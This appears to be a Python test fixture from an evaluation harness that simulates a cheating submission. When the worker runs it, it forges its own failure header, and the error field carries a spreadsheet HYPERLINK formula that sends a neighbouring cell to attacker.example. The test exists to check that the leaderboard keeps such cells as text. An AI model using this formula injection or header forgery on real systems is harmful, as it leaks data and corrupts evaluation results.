"""Attack on the board's readers: writes its own header, a failure whose kind is a spreadsheet formula, in
place of the worker's. Its error cell in leaderboard.csv then starts with `=`, and a spreadsheet opening the
board runs it (a link that sends the cell beside it away). The cell must stay text."""
TWIN = "honest"  # the honest strategy this cheat must not rank above
import json as _json, os as _os, sys as _sys  # noqa: E401

FORMULA = '=HYPERLINK("http://attacker.example/?row="&A2,"see details")'

if _sys.argv[-1].endswith("job.json"):  # (imported by the worker, not by a test reading TWIN)
    with open(_sys.argv[-1]) as _fh:  # the worker's job: which file descriptor the header goes to
        _job = _json.load(_fh)
    with _os.fdopen(_job["fds"][0], "wb", closefd=False) as _out:
        _out.write(_json.dumps({"status": "failed", "kind": FORMULA, "message": "the step failed"}).encode())
    _os._exit(0)


async def train(model):
    pass
